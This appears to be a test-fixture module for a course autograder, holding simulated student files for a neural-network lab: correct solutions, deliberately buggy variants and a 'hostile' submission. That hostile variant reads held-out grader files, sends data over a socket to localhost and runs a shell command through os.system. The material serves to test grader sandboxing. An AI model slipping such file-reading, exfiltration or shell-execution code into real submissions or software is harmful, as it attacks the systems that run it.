@@ -1,0 +1,244 @@
+"""Student files for UvA Lab 1's code part (questions 20-25), written as students write them.
+
+Each entry is a file's text; `write_cohort` lays them out as Moodle's "Download all submissions" does.
+The functions are written here independently of grader's reference implementations (loops, reshapes and
+einsum where the references use sliding windows and tensordot).
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+VECTORISED = """
+import numpy as np
+
+
+def convolve(image, kernels):
+    if image.ndim == 2:
+        image = image[:, :, np.newaxis]
+        kernels = kernels[:, :, np.newaxis, :]
+    kh, kw, _, n = kernels.shape
+    out_h, out_w = image.shape[0] - kh + 1, image.shape[1] - kw + 1
+    out = np.zeros((out_h, out_w, n))
+    for dy in range(kh):            # a loop over the kernel's offsets, each a whole-array product
+        for dx in range(kw):
+            out += np.einsum("ijc,cn->ijn", image[dy:dy + out_h, dx:dx + out_w, :], kernels[dy, dx])
+    return out
+
+
+def relu(feature_maps):
+    return np.where(feature_maps > 0, feature_maps, 0.0)
+
+
+def max_pool(feature_maps, size):
+    h = feature_maps.shape[0] // size * size
+    w = feature_maps.shape[1] // size * size
+    cropped = feature_maps[:h, :w]
+    shape = (h // size, size, w // size, size) + feature_maps.shape[2:]
+    return cropped.reshape(shape).max(axis=(1, 3))
+
+
+def normalise(feature_maps):
+    mean = feature_maps.mean(axis=(0, 1), keepdims=True)
+    std = feature_maps.std(axis=(0, 1), keepdims=True)
+    return (feature_maps - mean) / (std + 1e-12)
+
+
+def fully_connected(inputs, weights, biases):
+    return np.dot(inputs.flatten(), weights) + biases
+
+
+def softmax(activations):
+    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))
+    return e / np.sum(e, axis=-1, keepdims=True)
+"""
+
+# Correct, but working through every element in turn.
+LOOPS = """
+import numpy as np
+
+
+def convolve(image, kernels):
+    if image.ndim == 2:
+        image = image.reshape(image.shape[0], image.shape[1], 1)
+        kernels = kernels.reshape(kernels.shape[0], kernels.shape[1], 1, kernels.shape[2])
+    kh, kw, channels, n = kernels.shape
+    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1, n))
+    for f in range(n):
+        for i in range(out.shape[0]):
+            for j in range(out.shape[1]):
+                total = 0.0
+                for y in range(kh):
+                    for x in range(kw):
+                        for c in range(channels):
+                            total += image[i + y, j + x, c] * kernels[y, x, c, f]
+                out[i, j, f] = total
+    return out
+
+
+def relu(feature_maps):
+    out = feature_maps.copy()
+    flat = out.reshape(-1)
+    for i in range(flat.size):
+        if flat[i] < 0:
+            flat[i] = 0
+    return out
+
+
+def max_pool(feature_maps, size):
+    maps = feature_maps if feature_maps.ndim == 3 else feature_maps[:, :, None]
+    rows, cols = maps.shape[0] // size, maps.shape[1] // size
+    out = np.zeros((rows, cols, maps.shape[2]))
+    for c in range(maps.shape[2]):
+        for i in range(rows):
+            for j in range(cols):
+                best = maps[i * size, j * size, c]
+                for y in range(size):
+                    for x in range(size):
+                        best = max(best, maps[i * size + y, j * size + x, c])
+                out[i, j, c] = best
+    return out if feature_maps.ndim == 3 else out[:, :, 0]
+
+
+def normalise(feature_maps):
+    maps = feature_maps if feature_maps.ndim == 3 else feature_maps[:, :, None]
+    out = np.zeros(maps.shape)
+    for c in range(maps.shape[2]):
+        values = [v for v in maps[:, :, c].flat]
+        mean = sum(values) / len(values)
+        std = (sum((v - mean) ** 2 for v in values) / len(values)) ** 0.5
+        for i in range(maps.shape[0]):
+            for j in range(maps.shape[1]):
+                out[i, j, c] = (maps[i, j, c] - mean) / std
+    return out if feature_maps.ndim == 3 else out[:, :, 0]
+
+
+def fully_connected(inputs, weights, biases):
+    flat = inputs.flatten()
+    out = np.zeros(weights.shape[1])
+    for o in range(weights.shape[1]):
+        total = biases[o]
+        for i in range(flat.size):
+            total += flat[i] * weights[i, o]
+        out[o] = total
+    return out
+
+
+def softmax(activations):
+    x = np.atleast_2d(activations)
+    out = np.zeros(x.shape)
+    for r in range(x.shape[0]):
+        top = max(x[r])
+        exps = [np.exp(v - top) for v in x[r]]
+        total = sum(exps)
+        for k in range(x.shape[1]):
+            out[r, k] = exps[k] / total
+    return out.reshape(activations.shape)
+"""
+
+# The output one row and column short (range(h - kh) instead of h - kh + 1).
+OFF_BY_ONE = VECTORISED.replace(
+    "out_h, out_w = image.shape[0] - kh + 1, image.shape[1] - kw + 1",
+    "out_h, out_w = image.shape[0] - kh, image.shape[1] - kw",
+)
+
+# Softmax summed over the first axis: right for a vector, wrong for a batch.
+SOFTMAX_AXIS = VECTORISED.replace(
+    "    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))\n"
+    "    return e / np.sum(e, axis=-1, keepdims=True)",
+    "    e = np.exp(activations - np.max(activations))\n    return e / np.sum(e, axis=0)",
+)
+
+# exp() of the activations as they are: inf / inf for large ones.
+SOFTMAX_UNSTABLE = VECTORISED.replace(
+    "    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))\n",
+    "    e = np.exp(activations)\n",
+)
+
+SYNTAX_ERROR = VECTORISED.replace("def relu(feature_maps):", "def relu(feature_maps)")
+
+INFINITE_LOOP = VECTORISED.replace(
+    "def relu(feature_maps):\n    return", "def relu(feature_maps):\n    while True:\n        pass\n    return"
+)
+
+# Reaches for what it must not: the held-out files, the network, a shell, at import and when called.
+HOSTILE = (
+    VECTORISED.replace(
+        "def relu(feature_maps):\n    return np.where(feature_maps > 0, feature_maps, 0.0)",
+        """def relu(feature_maps):
+    try:
+        with open(HELDOUT) as handle:
+            handle.read()
+    except Exception:
+        pass
+    return np.where(feature_maps > 0, feature_maps, 0.0)""",
+    )
+    .replace(
+        "def normalise(feature_maps):\n",
+        """def normalise(feature_maps):
+    import socket
+    connection = socket.create_connection(("127.0.0.1", PORT))
+    connection.sendall(b"stolen")
+""",
+    )
+    .replace(
+        "def softmax(activations):\n",
+        """def softmax(activations):
+    import os
+    os.system("touch " + MARKER)
+""",
+    )
+)
+
+
+def hostile(heldout: str, port: int, marker: str) -> str:
+    """HOSTILE with the paths and port it tries filled in (as constants, which are taken)."""
+    return f"HELDOUT = {heldout!r}\nPORT = {port}\nMARKER = {marker!r}\n" + HOSTILE
+
+
+def notebook(cells: list[str]) -> str:
+    """A Jupyter notebook (nbformat 4) of code cells, with a markdown cell first."""
+    document = {
+        "nbformat": 4,
+        "nbformat_minor": 5,
+        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+        "cells": [{"cell_type": "markdown", "id": "intro", "metadata": {}, "source": "# Lab 1, exercise three"}]
+        + [
+            {
+                "cell_type": "code",
+                "id": f"c{number}",
+                "metadata": {},
+                "execution_count": None,
+                "outputs": [],
+                "source": source,
+            }
+            for number, source in enumerate(cells)
+        ],
+    }
+    return json.dumps(document, indent=1)
+
+
+# A notebook whose first cells train a network (which must never run: it would import TensorFlow, read
+# MNIST from the internet and train for hours), then define the functions.
+TRAINING_NOTEBOOK = notebook(
+    [
+        "import numpy as np\nimport tensorflow as tf\nfrom tensorflow import keras\n%matplotlib inline",
+        "(x_train, y_train), (x_test, y_test) = keras.datasets.mnist.load_data()\n"
+        "model = keras.Sequential([keras.layers.Dense(10)])\nmodel.fit(x_train, y_train, epochs=20)\n"
+        "open('/tmp/grader-notebook-ran', 'w').write('the training cell ran')",
+        VECTORISED.split("def max_pool")[0],
+        "!pip install something",
+        "def max_pool" + VECTORISED.split("def max_pool")[1],
+        "print(relu(np.array([-1.0, 2.0])))",
+    ]
+)
+
+
+def write_cohort(root: Path, files: dict[str, tuple[str, str]]) -> Path:
+    """Moodle folders '<Name>_<id>_assignsubmission_file_/<file>' for {student_id: (file name, text)}."""
+    for number, (student_id, (name, text)) in enumerate(sorted(files.items())):
+        folder = root / f"Student {number}_{student_id}_assignsubmission_file_"
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text)
+    return root
